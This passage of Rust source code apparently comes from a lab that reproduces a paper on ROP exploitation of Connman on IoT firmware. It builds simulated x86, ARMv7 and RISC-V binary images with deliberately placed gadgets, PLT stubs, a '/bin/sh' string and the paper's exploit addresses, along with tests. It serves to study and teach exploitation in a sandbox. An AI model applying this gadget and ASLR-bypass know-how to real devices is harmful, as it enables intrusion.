    for (name, off) in fns {
        b.symbol(name, libc_base + off, 16, SymbolKind::LibcFunction);
    }
    b.symbol(
        "str_bin_sh",
        libc_base + libc_off::STR_BIN_SH,
        8,
        SymbolKind::Object,
    );
    // Initialized libc bytes: fill up to the string so it is present.
    // (Sections zero-fill; we only need bytes at the string offset, but
    // the builder appends linearly, so pad.)
    let ret_fill: Vec<u8> = match arch {
        Arch::X86 => std::iter::repeat_n(0xC3u8, libc_off::STR_BIN_SH as usize).collect(),
        Arch::Armv7 => 0xE12F_FF1Eu32 // bx lr
            .to_le_bytes()
            .iter()
            .copied()
            .cycle()
            .take(libc_off::STR_BIN_SH as usize)
            .collect(),
        Arch::Riscv => 0x8082u16 // c.jr ra
            .to_le_bytes()
            .iter()
            .copied()
            .cycle()
            .take(libc_off::STR_BIN_SH as usize)
            .collect(),
    };
    b.append_code(SectionKind::Libc, &ret_fill);
    b.append_code(SectionKind::Libc, b"/bin/sh\0");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_images_build_and_carry_symbols() {
        for arch in Arch::ALL {
            let (img, _) = build_image(arch);
            for sym in [
                SYM_DAEMON_INIT,
                SYM_DAEMON_LOOP,
                SYM_PARSE_RESPONSE,
                "memcpy@plt",
                "execlp@plt",
                "system",
                "exit",
                "memcpy",
                "execve",
                "execlp",
                "str_bin_sh",
                "__bss_start",
            ] {
                assert!(img.symbol(sym).is_some(), "{arch}: missing {sym}");
            }
        }
    }

    #[test]
    fn gadget_ground_truth_points_at_expected_bytes() {
        let (img, g) = build_image(Arch::X86);
        assert_eq!(img.bytes_at(g.ret.unwrap(), 1), Some(&[0xC3u8][..]));
        assert_eq!(
            img.bytes_at(g.ppppr.unwrap(), 5),
            Some(&[0x5B, 0x5E, 0x5F, 0x5D, 0xC3][..])
        );
        let (img, g) = build_image(Arch::Armv7);
        assert_eq!(
            img.bytes_at(g.pop_r0_r7_pc.unwrap(), 4),
            Some(&0xE8BD_80EFu32.to_le_bytes()[..])
        );
        assert_eq!(
            img.bytes_at(g.blx_r3_tramp.unwrap(), 4),
            Some(&0xE12F_FF33u32.to_le_bytes()[..])
        );
        let (img, g) = build_image(Arch::Riscv);
        // `lw a0, 0(sp)` heads the register loader.
        assert_eq!(
            img.bytes_at(g.lw_args_ret.unwrap(), 4),
            Some(&0x0001_2503u32.to_le_bytes()[..])
        );
        assert_eq!(img.bytes_at(g.rvc_ret.unwrap(), 2), Some(&[0x82, 0x80][..]));
        // The misaligned ret is the upper parcel of a `lui`.
        assert_eq!(
            img.bytes_at(g.misaligned_ret.unwrap() - 2, 4),
            Some(&0x8082_0537u32.to_le_bytes()[..])
        );
    }

    #[test]
    fn bin_sh_characters_available_in_program_image_but_not_the_string() {
        for arch in Arch::ALL {
            let (img, _) = build_image(arch);
            for ch in b"/bins h".iter().filter(|c| **c != b' ') {
                let hits = img.find_bytes(&[*ch]);
                let program_hit = hits.iter().any(|&a| {
                    img.section_containing(a)
                        .is_some_and(|s| s.kind() != SectionKind::Libc)
                });
                assert!(program_hit, "{arch}: char {:?} missing", *ch as char);
            }
            // The full string exists only in libc.
            let full = img.find_bytes(b"/bin/sh");
            assert!(!full.is_empty());
            for a in full {
                assert_eq!(img.section_containing(a).unwrap().kind(), SectionKind::Libc);
            }
        }
    }

    #[test]
    fn libc_string_at_expected_symbol() {
        for arch in Arch::ALL {
            let (img, _) = build_image(arch);
            let addr = img.symbol("str_bin_sh").unwrap().addr();
            assert_eq!(img.bytes_at(addr, 8), Some(&b"/bin/sh\0"[..]));
        }
    }

    #[test]
    fn parse_response_bodies_decode_cleanly_and_differ_by_flavour() {
        for arch in Arch::ALL {
            let (vuln, _) = build_image_for(arch, 0, false);
            let (fixed, _) = build_image_for(arch, 0, true);
            for img in [&vuln, &fixed] {
                let sym = img.symbol(SYM_PARSE_RESPONSE).unwrap();
                let bytes = img.bytes_at(sym.addr(), sym.size() as usize).unwrap();
                let mut off = 0usize;
                while off < bytes.len() {
                    let len = match arch {
                        Arch::X86 => x86::decode(&bytes[off..]).expect("body decodes").1,
                        Arch::Armv7 => arm::decode(&bytes[off..]).expect("body decodes").1,
                        Arch::Riscv => riscv::decode(&bytes[off..]).expect("body decodes").1,
                    };
                    off += len;
                }
                assert_eq!(off, bytes.len(), "{arch}: ragged decode");
            }
            let vs = vuln.symbol(SYM_PARSE_RESPONSE).unwrap();
            let fs = fixed.symbol(SYM_PARSE_RESPONSE).unwrap();
            assert!(fs.size() > vs.size(), "{arch}: patched body not larger");
        }
    }

    #[test]
    fn daemon_init_decodes_cleanly() {
        for arch in Arch::ALL {
            let (img, _) = build_image(arch);
            let sym = img.symbol(SYM_DAEMON_INIT).unwrap();
            let bytes = img.bytes_at(sym.addr(), sym.size() as usize).unwrap();
            let mut off = 0usize;
            while off < bytes.len() {
                let len = match arch {
                    Arch::X86 => x86::decode(&bytes[off..]).expect("init decodes").1,
                    Arch::Armv7 => arm::decode(&bytes[off..]).expect("init decodes").1,
                    Arch::Riscv => riscv::decode(&bytes[off..]).expect("init decodes").1,
                };
                off += len;
            }
            assert_eq!(off, bytes.len(), "{arch}: ragged init decode");
        }
    }

    #[test]
    fn images_are_deterministic() {
        let (a, _) = build_image(Arch::X86);
        let (b, _) = build_image(Arch::X86);
        assert_eq!(
            a.section(SectionKind::Text).unwrap().bytes(),
            b.section(SectionKind::Text).unwrap().bytes()
        );
    }
}
