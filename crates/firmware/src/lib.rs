//! IoT firmware profiles and bootable devices.
//!
//! The paper surveys three embedded OS families that still shipped
//! vulnerable Connman builds — Yocto (1.31), OpenELEC (1.34) and Tizen
//! (< 4.0) — plus the patched 1.35. This crate models those profiles and
//! assembles, for each architecture, the *binary image* of the simulated
//! `connmand`: program text with a realistic instruction mix (including
//! the gadget material the paper's ROP chains harvest), PLT stubs for
//! `memcpy` and `execlp`, a GOT, read-only strings containing the
//! characters of `/bin/sh`, an empty `.bss`, a libc mapping (with
//! `system`, `exit`, `memcpy`, `execve`, `execlp` and a `/bin/sh`
//! literal), and a stack.
//!
//! Booting a profile loads the image under a protection policy and wraps
//! it in the Connman [`Daemon`].

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod build;
mod profile;

pub use build::{build_image, build_image_for, build_image_variant, GadgetAddrs};
pub use profile::{BootForge, Firmware, FirmwareKind, ServiceProfile, SharedForge};

pub use cml_connman::{ConnmanVersion, Daemon, FrameLayout};
pub use cml_image::Arch;
pub use cml_vm::Protections;
