//! Memory permissions.

use std::fmt;
use std::ops::{BitOr, BitOrAssign};

/// Read/write/execute permission bits for a section or memory region.
///
/// A tiny hand-rolled flag set (the approved dependency list has no
/// `bitflags`), with the usual `|` composition:
///
/// ```
/// use cml_image::Perms;
/// let rw = Perms::READ | Perms::WRITE;
/// assert!(rw.readable() && rw.writable() && !rw.executable());
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Perms(u8);

impl Perms {
    /// No access.
    pub const NONE: Perms = Perms(0);
    /// Readable.
    pub const READ: Perms = Perms(0b001);
    /// Writable.
    pub const WRITE: Perms = Perms(0b010);
    /// Executable.
    pub const EXEC: Perms = Perms(0b100);
    /// Read + write.
    pub const RW: Perms = Perms(0b011);
    /// Read + execute.
    pub const RX: Perms = Perms(0b101);
    /// Read + write + execute (what W⊕X forbids).
    pub const RWX: Perms = Perms(0b111);

    /// Whether reads are allowed.
    pub const fn readable(self) -> bool {
        self.0 & 0b001 != 0
    }

    /// Whether writes are allowed.
    pub const fn writable(self) -> bool {
        self.0 & 0b010 != 0
    }

    /// Whether instruction fetch is allowed.
    pub const fn executable(self) -> bool {
        self.0 & 0b100 != 0
    }

    /// Whether this permission set violates W⊕X (both writable and
    /// executable).
    pub const fn violates_wxorx(self) -> bool {
        self.writable() && self.executable()
    }

    /// Returns these permissions with the execute bit cleared — what a
    /// W⊕X loader does to writable mappings.
    pub const fn without_exec(self) -> Perms {
        Perms(self.0 & 0b011)
    }

    /// Returns these permissions with the execute bit set.
    pub const fn with_exec(self) -> Perms {
        Perms(self.0 | 0b100)
    }

    /// Whether `other`'s bits are all present in `self`.
    pub const fn contains(self, other: Perms) -> bool {
        self.0 & other.0 == other.0
    }
}

impl BitOr for Perms {
    type Output = Perms;

    fn bitor(self, rhs: Perms) -> Perms {
        Perms(self.0 | rhs.0)
    }
}

impl BitOrAssign for Perms {
    fn bitor_assign(&mut self, rhs: Perms) {
        self.0 |= rhs.0;
    }
}

impl fmt::Display for Perms {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}{}{}",
            if self.readable() { 'r' } else { '-' },
            if self.writable() { 'w' } else { '-' },
            if self.executable() { 'x' } else { '-' }
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn composition_and_queries() {
        let p = Perms::READ | Perms::EXEC;
        assert_eq!(p, Perms::RX);
        assert!(p.readable() && p.executable() && !p.writable());
        assert!(p.contains(Perms::READ));
        assert!(!p.contains(Perms::WRITE));
    }

    #[test]
    fn wxorx_detection() {
        assert!(Perms::RWX.violates_wxorx());
        assert!(!(Perms::RW).violates_wxorx());
        assert!(!(Perms::RX).violates_wxorx());
        assert_eq!(Perms::RWX.without_exec(), Perms::RW);
        assert_eq!(Perms::RW.with_exec(), Perms::RWX);
    }

    #[test]
    fn display() {
        assert_eq!(Perms::RWX.to_string(), "rwx");
        assert_eq!(Perms::RX.to_string(), "r-x");
        assert_eq!(Perms::NONE.to_string(), "---");
    }
}
