//! Incremental image construction.

use crate::image::{Image, ImageError};
use crate::{Addr, Arch, Perms, Section, SectionKind, Symbol, SymbolKind};

/// Builder for [`Image`] values.
///
/// The firmware crate drives this to lay out a simulated Connman binary:
/// code bytes are appended to `.text`/`.plt` cursors and symbols are
/// recorded as they are placed, so the builder doubles as a tiny linker.
///
/// ```
/// use cml_image::{Arch, ImageBuilder, Perms, SectionKind, SymbolKind};
///
/// # fn main() -> Result<(), cml_image::ImageError> {
/// let mut b = ImageBuilder::new(Arch::X86);
/// b.section(SectionKind::Text, 0x1000, 0x100, Perms::RX);
/// let entry = b.append_code(SectionKind::Text, &[0x90, 0xC3]);
/// b.symbol("entry", entry, 2, SymbolKind::Function);
/// let image = b.build()?;
/// assert_eq!(image.symbol("entry").unwrap().addr(), 0x1000);
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct ImageBuilder {
    arch: Arch,
    sections: Vec<PendingSection>,
    symbols: Vec<Symbol>,
}

#[derive(Debug)]
struct PendingSection {
    kind: SectionKind,
    base: Addr,
    size: u32,
    perms: Perms,
    bytes: Vec<u8>,
}

impl ImageBuilder {
    /// Starts an empty image for `arch`.
    pub fn new(arch: Arch) -> Self {
        ImageBuilder {
            arch,
            sections: Vec::new(),
            symbols: Vec::new(),
        }
    }

    /// The target architecture.
    pub fn arch(&self) -> Arch {
        self.arch
    }

    /// Declares a section with explicit permissions. Returns `&mut self`
    /// for chaining.
    pub fn section(&mut self, kind: SectionKind, base: Addr, size: u32, perms: Perms) -> &mut Self {
        self.sections.push(PendingSection {
            kind,
            base,
            size,
            perms,
            bytes: Vec::new(),
        });
        self
    }

    /// Declares a section with the kind's default permissions.
    pub fn section_default(&mut self, kind: SectionKind, base: Addr, size: u32) -> &mut Self {
        self.section(kind, base, size, kind.default_perms())
    }

    /// Appends `code` to the end of the named section's initialized bytes
    /// and returns the address where it landed.
    ///
    /// # Panics
    ///
    /// Panics if the section was not declared or the bytes overflow it —
    /// both are builder-programming errors, not runtime input.
    pub fn append_code(&mut self, kind: SectionKind, code: &[u8]) -> Addr {
        let s = self
            .sections
            .iter_mut()
            .find(|s| s.kind == kind)
            .unwrap_or_else(|| panic!("section {kind} not declared"));
        let addr = s.base + s.bytes.len() as Addr;
        assert!(
            s.bytes.len() + code.len() <= s.size as usize,
            "section {kind} overflow: {} + {} > {}",
            s.bytes.len(),
            code.len(),
            s.size
        );
        s.bytes.extend_from_slice(code);
        addr
    }

    /// Pads the named section's initialized bytes so the next append
    /// lands on an `align`-byte boundary; returns the aligned address.
    ///
    /// # Panics
    ///
    /// Panics if the section was not declared, `align` is 0, or padding
    /// would overflow the section.
    pub fn align_to(&mut self, kind: SectionKind, align: usize) -> Addr {
        assert!(align > 0, "alignment must be non-zero");
        let s = self
            .sections
            .iter_mut()
            .find(|s| s.kind == kind)
            .unwrap_or_else(|| panic!("section {kind} not declared"));
        let pos = s.base as usize + s.bytes.len();
        let pad = (align - pos % align) % align;
        assert!(
            s.bytes.len() + pad <= s.size as usize,
            "padding overflows section {kind}"
        );
        s.bytes.extend(std::iter::repeat_n(0u8, pad));
        s.base + s.bytes.len() as Addr
    }

    /// Current append cursor of a section.
    ///
    /// # Panics
    ///
    /// Panics if the section was not declared.
    pub fn cursor(&self, kind: SectionKind) -> Addr {
        let s = self
            .sections
            .iter()
            .find(|s| s.kind == kind)
            .unwrap_or_else(|| panic!("section {kind} not declared"));
        s.base + s.bytes.len() as Addr
    }

    /// Records a symbol. Returns `&mut self` for chaining.
    pub fn symbol(
        &mut self,
        name: impl Into<String>,
        addr: Addr,
        size: u32,
        kind: SymbolKind,
    ) -> &mut Self {
        self.symbols.push(Symbol::new(name, addr, size, kind));
        self
    }

    /// Finalizes the image, validating section disjointness and symbol
    /// integrity.
    ///
    /// # Errors
    ///
    /// Returns an [`ImageError`] describing the first inconsistency.
    pub fn build(self) -> Result<Image, ImageError> {
        let sections = self
            .sections
            .into_iter()
            .map(|p| Section::new(p.kind, p.base, p.size, p.perms, p.bytes))
            .collect();
        Image::from_parts(self.arch, sections, self.symbols)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn append_and_cursor() {
        let mut b = ImageBuilder::new(Arch::Armv7);
        b.section_default(SectionKind::Text, 0x1_0000, 0x1000);
        assert_eq!(b.cursor(SectionKind::Text), 0x1_0000);
        let a1 = b.append_code(SectionKind::Text, &[1, 2, 3]);
        let aligned = b.align_to(SectionKind::Text, 4);
        let a2 = b.append_code(SectionKind::Text, &[4; 4]);
        assert_eq!(a1, 0x1_0000);
        assert_eq!(aligned, 0x1_0004);
        assert_eq!(a2, 0x1_0004);
        let img = b.build().unwrap();
        assert_eq!(
            img.bytes_at(0x1_0000, 8),
            Some(&[1, 2, 3, 0, 4, 4, 4, 4][..])
        );
    }

    #[test]
    #[should_panic(expected = "not declared")]
    fn append_to_missing_section_panics() {
        let mut b = ImageBuilder::new(Arch::X86);
        b.append_code(SectionKind::Text, &[0x90]);
    }

    #[test]
    #[should_panic(expected = "overflow")]
    fn overflow_panics() {
        let mut b = ImageBuilder::new(Arch::X86);
        b.section_default(SectionKind::Text, 0, 2);
        b.append_code(SectionKind::Text, &[0x90; 3]);
    }

    #[test]
    fn build_validates() {
        let mut b = ImageBuilder::new(Arch::X86);
        b.section_default(SectionKind::Text, 0x1000, 0x10);
        b.symbol("ghost", 0xFFFF, 0, SymbolKind::Object);
        assert!(b.build().is_err());
    }
}
