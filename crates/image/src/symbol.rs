//! Symbols: named addresses within an image.

use std::fmt;

use crate::Addr;

/// What a symbol denotes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SymbolKind {
    /// A function in the program's own `.text`.
    Function,
    /// A PLT stub (e.g. `execlp@plt`, `memcpy@plt`) — callable at a fixed
    /// address even under ASLR, which is what the paper's ROP chains
    /// exploit.
    PltEntry,
    /// A function inside libc (address moves under ASLR).
    LibcFunction,
    /// A data object (buffer, string, global).
    Object,
    /// A section-relative marker such as `__bss_start`.
    Marker,
}

/// A named address, with an optional size for objects/functions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Symbol {
    name: String,
    addr: Addr,
    size: u32,
    kind: SymbolKind,
}

impl Symbol {
    /// Creates a symbol.
    pub fn new(name: impl Into<String>, addr: Addr, size: u32, kind: SymbolKind) -> Self {
        Symbol {
            name: name.into(),
            addr,
            size,
            kind,
        }
    }

    /// The symbol's name. PLT entries use the `name@plt` convention.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The symbol's address *as linked* (for ASLR'd regions this is the
    /// unrandomized link-time address; the loader rebases it).
    pub fn addr(&self) -> Addr {
        self.addr
    }

    /// Size in bytes (0 when unknown).
    pub fn size(&self) -> u32 {
        self.size
    }

    /// What the symbol denotes.
    pub fn kind(&self) -> SymbolKind {
        self.kind
    }
}

impl fmt::Display for Symbol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:#010x} {:?} {}", self.addr, self.kind, self.name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accessors() {
        let s = Symbol::new("execlp@plt", 0x0001_b2d0, 12, SymbolKind::PltEntry);
        assert_eq!(s.name(), "execlp@plt");
        assert_eq!(s.addr(), 0x0001_b2d0);
        assert_eq!(s.size(), 12);
        assert_eq!(s.kind(), SymbolKind::PltEntry);
        assert!(s.to_string().contains("execlp@plt"));
    }
}
