//! Sections of a binary image.

use std::fmt;

use crate::{Addr, Perms};

/// The role a section plays; determines default permissions and whether
/// the loader randomizes its base.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SectionKind {
    /// Program code (fixed base in a non-PIE binary).
    Text,
    /// Procedure linkage table stubs (fixed base).
    Plt,
    /// Global offset table (fixed base, writable).
    Got,
    /// Read-only constants (fixed base).
    Rodata,
    /// Initialized writable data (fixed base).
    Data,
    /// Uninitialized writable data — the paper's staging ground for the
    /// crafted `/bin/sh` string precisely because it is *not* randomized.
    Bss,
    /// Shared C library mapping (randomized under ASLR).
    Libc,
    /// The process stack (randomized under ASLR; executable only when no
    /// protections are enabled).
    Stack,
    /// The process heap.
    Heap,
}

impl SectionKind {
    /// Default permissions for this kind under a no-protection loader
    /// (the paper's §III-A configuration, where even the stack is
    /// executable).
    pub fn default_perms(self) -> Perms {
        match self {
            SectionKind::Text | SectionKind::Plt => Perms::RX,
            SectionKind::Libc => Perms::RX,
            SectionKind::Rodata => Perms::READ,
            SectionKind::Got | SectionKind::Data | SectionKind::Bss | SectionKind::Heap => {
                Perms::RW
            }
            // Executable stack: hardened loaders clear the X bit.
            SectionKind::Stack => Perms::RWX,
        }
    }

    /// Whether ASLR randomizes this section's base address. Matches the
    /// paper: the non-PIE program sections stay put; libc, stack and heap
    /// move.
    pub fn randomized_by_aslr(self) -> bool {
        matches!(
            self,
            SectionKind::Libc | SectionKind::Stack | SectionKind::Heap
        )
    }

    /// Conventional section name.
    pub fn name(self) -> &'static str {
        match self {
            SectionKind::Text => ".text",
            SectionKind::Plt => ".plt",
            SectionKind::Got => ".got",
            SectionKind::Rodata => ".rodata",
            SectionKind::Data => ".data",
            SectionKind::Bss => ".bss",
            SectionKind::Libc => "libc",
            SectionKind::Stack => "[stack]",
            SectionKind::Heap => "[heap]",
        }
    }
}

impl fmt::Display for SectionKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// One section: an address range, permissions, and initialized contents.
///
/// `bytes` may be shorter than `size`; the remainder is zero-filled at
/// load time (how `.bss` works).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Section {
    kind: SectionKind,
    base: Addr,
    size: u32,
    perms: Perms,
    bytes: Vec<u8>,
}

impl Section {
    /// Creates a section. `bytes.len()` must not exceed `size`.
    ///
    /// # Panics
    ///
    /// Panics if the initialized bytes overflow the declared size or the
    /// range wraps the 32-bit address space; both indicate a builder bug.
    pub fn new(kind: SectionKind, base: Addr, size: u32, perms: Perms, bytes: Vec<u8>) -> Self {
        assert!(
            bytes.len() as u64 <= size as u64,
            "initialized bytes exceed section size"
        );
        assert!(
            (base as u64) + (size as u64) <= (u32::MAX as u64) + 1,
            "section wraps the address space"
        );
        Section {
            kind,
            base,
            size,
            perms,
            bytes,
        }
    }

    /// The section's role.
    pub fn kind(&self) -> SectionKind {
        self.kind
    }

    /// Lowest address of the section.
    pub fn base(&self) -> Addr {
        self.base
    }

    /// Size in bytes.
    pub fn size(&self) -> u32 {
        self.size
    }

    /// One past the highest address.
    pub fn end(&self) -> u64 {
        self.base as u64 + self.size as u64
    }

    /// Permission bits.
    pub fn perms(&self) -> Perms {
        self.perms
    }

    /// Initialized contents (may be shorter than [`Section::size`]).
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// Whether `addr` lies inside this section.
    pub fn contains(&self, addr: Addr) -> bool {
        (addr as u64) >= self.base as u64 && (addr as u64) < self.end()
    }

    /// Reads `len` initialized bytes at `addr`, if fully inside the
    /// initialized region.
    pub fn initialized_at(&self, addr: Addr, len: usize) -> Option<&[u8]> {
        if !self.contains(addr) {
            return None;
        }
        let off = (addr - self.base) as usize;
        self.bytes.get(off..off + len)
    }
}

impl fmt::Display for Section {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<8} {:#010x}..{:#010x} {} ({} bytes init)",
            self.kind.name(),
            self.base,
            self.end(),
            self.perms,
            self.bytes.len()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_match_paper_model() {
        assert_eq!(SectionKind::Text.default_perms(), Perms::RX);
        assert_eq!(SectionKind::Bss.default_perms(), Perms::RW);
        assert!(SectionKind::Stack.default_perms().violates_wxorx());
        assert!(SectionKind::Libc.randomized_by_aslr());
        assert!(SectionKind::Stack.randomized_by_aslr());
        assert!(!SectionKind::Bss.randomized_by_aslr());
        assert!(!SectionKind::Plt.randomized_by_aslr());
    }

    #[test]
    fn contains_and_reads() {
        let s = Section::new(
            SectionKind::Text,
            0x1000,
            0x100,
            Perms::RX,
            vec![1, 2, 3, 4],
        );
        assert!(s.contains(0x1000));
        assert!(s.contains(0x10FF));
        assert!(!s.contains(0x1100));
        assert_eq!(s.initialized_at(0x1001, 2), Some(&[2u8, 3][..]));
        assert_eq!(s.initialized_at(0x1003, 2), None, "past initialized bytes");
        assert_eq!(s.initialized_at(0x2000, 1), None);
    }

    #[test]
    #[should_panic(expected = "initialized bytes exceed")]
    fn oversized_bytes_panic() {
        let _ = Section::new(SectionKind::Data, 0, 2, Perms::RW, vec![0; 3]);
    }

    #[test]
    fn end_at_address_space_top() {
        let s = Section::new(SectionKind::Stack, 0xFFFF_F000, 0x1000, Perms::RW, vec![]);
        assert_eq!(s.end(), 1u64 << 32);
        assert!(s.contains(0xFFFF_FFFF));
    }
}
