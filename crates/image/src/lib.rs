//! Synthetic binary-image substrate for `connman-lab`.
//!
//! A [`Image`] plays the role of the compiled Connman ELF binary in the
//! reproduced paper: a set of sections with addresses, permissions and
//! initialized bytes, plus a symbol table and PLT entries. The firmware
//! crate assembles images that *contain* the gadget-bearing machine code;
//! the VM loads them into permissioned memory; and the exploit crate's
//! gadget finder scans their executable bytes exactly the way `ropper` and
//! `ROPgadget` scan a real ELF.
//!
//! Section base addresses follow the conventional 32-bit Linux non-PIE
//! layout that the paper's listings show (x86 `.text` at `0x0804_8000`,
//! ARM `.text` at `0x0001_0000`, libc and stack high in the address
//! space). Only the libc and stack regions participate in ASLR, matching
//! the paper's observation that `.text`, `.plt` and `.bss` stay fixed and
//! therefore remain usable for ROP.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod arch;
mod builder;
mod image;
pub mod layout;
mod perms;
mod section;
mod symbol;

pub use arch::Arch;
pub use builder::ImageBuilder;
pub use image::{Image, ImageError};
pub use perms::Perms;
pub use section::{Section, SectionKind};
pub use symbol::{Symbol, SymbolKind};

/// Virtual address in the simulated 32-bit address space.
pub type Addr = u32;
