//! Conventional 32-bit address-space layouts per architecture.
//!
//! These constants mirror the addresses visible in the paper's listings:
//! the ARM exploits use `.text` gadgets near `0x0001_12b1`, PLT stubs near
//! `0x0001_bxxx`, a `.bss` staging address of `0x000b_9dc4`, a libc
//! `/bin/sh` string at `0x76d8_53e4`, and stack values around
//! `0x7eff_xxxx`; the x86 exploits use the classic `0x0804_8000` text
//! base, `.bss` near `0x0812_0200`, and a libc around `0xb750_0000`.

use crate::{Addr, Arch};

/// Link-time layout for one architecture. Addresses of ASLR-eligible
/// regions are the *unrandomized* bases; a loader with ASLR enabled adds
/// a per-boot slide.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Layout {
    /// Base of `.text`.
    pub text_base: Addr,
    /// Base of `.plt`.
    pub plt_base: Addr,
    /// Base of `.got`.
    pub got_base: Addr,
    /// Base of `.rodata`.
    pub rodata_base: Addr,
    /// Base of `.data`.
    pub data_base: Addr,
    /// Base of `.bss`.
    pub bss_base: Addr,
    /// Base of the heap.
    pub heap_base: Addr,
    /// Unrandomized base of the libc mapping.
    pub libc_base: Addr,
    /// Unrandomized *top* of the stack (stacks grow down).
    pub stack_top: Addr,
    /// Size of the stack mapping.
    pub stack_size: u32,
}

/// Returns the conventional layout for `arch`.
pub fn layout_for(arch: Arch) -> Layout {
    match arch {
        Arch::X86 => Layout {
            text_base: 0x0804_8000,
            plt_base: 0x0805_2000,
            got_base: 0x0805_6000,
            rodata_base: 0x0806_0000,
            data_base: 0x0810_0000,
            bss_base: 0x0812_0200,
            heap_base: 0x0900_0000,
            libc_base: 0xb750_0000,
            stack_top: 0xbfff_f000,
            stack_size: 0x0010_0000,
        },
        Arch::Armv7 => Layout {
            text_base: 0x0001_0000,
            plt_base: 0x0001_b000,
            got_base: 0x0001_f000,
            rodata_base: 0x0002_4000,
            data_base: 0x000a_0000,
            bss_base: 0x000b_9dc0,
            heap_base: 0x0100_0000,
            libc_base: 0x76d0_0000,
            stack_top: 0x7eff_f000,
            stack_size: 0x0010_0000,
        },
        // RV32 Linux convention: low text base like ARM, mmap'd libc
        // just under the 2 GiB line, stack at the top of the lower half.
        Arch::Riscv => Layout {
            text_base: 0x0001_0000,
            plt_base: 0x0001_c000,
            got_base: 0x0002_0000,
            rodata_base: 0x0002_6000,
            data_base: 0x000a_0000,
            bss_base: 0x000b_a000,
            heap_base: 0x0120_0000,
            libc_base: 0x77e0_0000,
            stack_top: 0x7fff_f000,
            stack_size: 0x0010_0000,
        },
    }
}

/// Number of address bits ASLR randomizes by default on 32-bit Linux
/// mmap/stack regions (`/proc/sys/vm/mmap_rnd_compat_bits` defaults to 8,
/// stack gets a little more; we model a uniform slide).
pub const DEFAULT_ASLR_ENTROPY_BITS: u32 = 8;

/// Granularity of the ASLR slide, in bytes (page-aligned).
pub const ASLR_PAGE: u32 = 0x1000;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layouts_do_not_overlap() {
        for arch in Arch::ALL {
            let l = layout_for(arch);
            let mut bases = [
                l.text_base,
                l.plt_base,
                l.got_base,
                l.rodata_base,
                l.data_base,
                l.bss_base,
                l.heap_base,
                l.libc_base,
                l.stack_top - l.stack_size,
            ];
            bases.sort_unstable();
            for w in bases.windows(2) {
                assert!(
                    w[0] < w[1],
                    "{arch}: duplicate or unsorted base {:#x}",
                    w[0]
                );
            }
        }
    }

    #[test]
    fn arm_layout_matches_paper_address_ranges() {
        let l = layout_for(Arch::Armv7);
        // Paper listing addresses fall inside our sections.
        assert!(l.text_base <= 0x0001_12b1 && 0x0001_12b1 < l.plt_base);
        assert!(l.plt_base <= 0x0001_b2d0 && 0x0001_b2d0 < l.got_base);
        assert!(l.bss_base <= 0x000b_9dc4);
        assert!(l.libc_base <= 0x76d8_53e4);
        assert!(0x7eff_e988 < l.stack_top);
    }

    #[test]
    fn x86_layout_matches_paper_address_ranges() {
        let l = layout_for(Arch::X86);
        assert!(l.text_base <= 0x0804_8154 && 0x0804_8154 < l.plt_base);
        assert!(l.plt_base <= 0x0805_29f0 && 0x0805_29f0 < l.got_base);
        assert_eq!(l.bss_base, 0x0812_0200);
    }
}
