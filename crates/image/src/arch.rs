//! Target architectures.

use std::fmt;

/// The 32-bit instruction sets the lab targets: the paper's two, plus
/// RISC-V for the IoT fleets the paper's successors cover.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Arch {
    /// Intel IA-32 (the paper's Ubuntu 16.04 VM).
    X86,
    /// ARMv7-A in ARM state (the paper's Raspberry Pi 3 Model B).
    Armv7,
    /// RV32IC — base RV32I plus the C (compressed) extension, the
    /// dominant embedded-RISC-V profile.
    Riscv,
}

impl Arch {
    /// Width of a pointer / general register, in bytes.
    pub const fn pointer_width(self) -> usize {
        4
    }

    /// Instruction alignment requirement in bytes: x86 is unaligned, ARM
    /// (ARM state) requires 4-byte alignment, and RV32IC requires only
    /// 2-byte alignment (the C extension halves the granule). Gadget
    /// scanning honours this, which is why x86 yields unintended
    /// unaligned gadgets, ARM does not, and RISC-V yields the in-between
    /// class: 2-byte-misaligned entries into 4-byte instructions.
    pub const fn insn_align(self) -> usize {
        match self {
            Arch::X86 => 1,
            Arch::Armv7 => 4,
            Arch::Riscv => 2,
        }
    }

    /// The byte sequence used as a no-operation filler in injected
    /// payloads: `0x90` on x86, the paper's 4-byte `mov r1, r1`
    /// equivalent on ARMv7, and the 2-byte `c.nop` on RV32IC.
    pub fn nop_bytes(self) -> &'static [u8] {
        match self {
            Arch::X86 => &[0x90],
            // e1a01001 = mov r1, r1 (little-endian in memory).
            Arch::Armv7 => &[0x01, 0x10, 0xa0, 0xe1],
            // 0001 = c.nop (c.addi x0, 0).
            Arch::Riscv => &[0x01, 0x00],
        }
    }

    /// Human-readable name matching the paper's usage.
    pub const fn name(self) -> &'static str {
        match self {
            Arch::X86 => "x86",
            Arch::Armv7 => "ARMv7",
            Arch::Riscv => "RISC-V",
        }
    }

    /// All architectures, paper order first, RISC-V third.
    pub const ALL: [Arch; 3] = [Arch::X86, Arch::Armv7, Arch::Riscv];
}

impl fmt::Display for Arch {
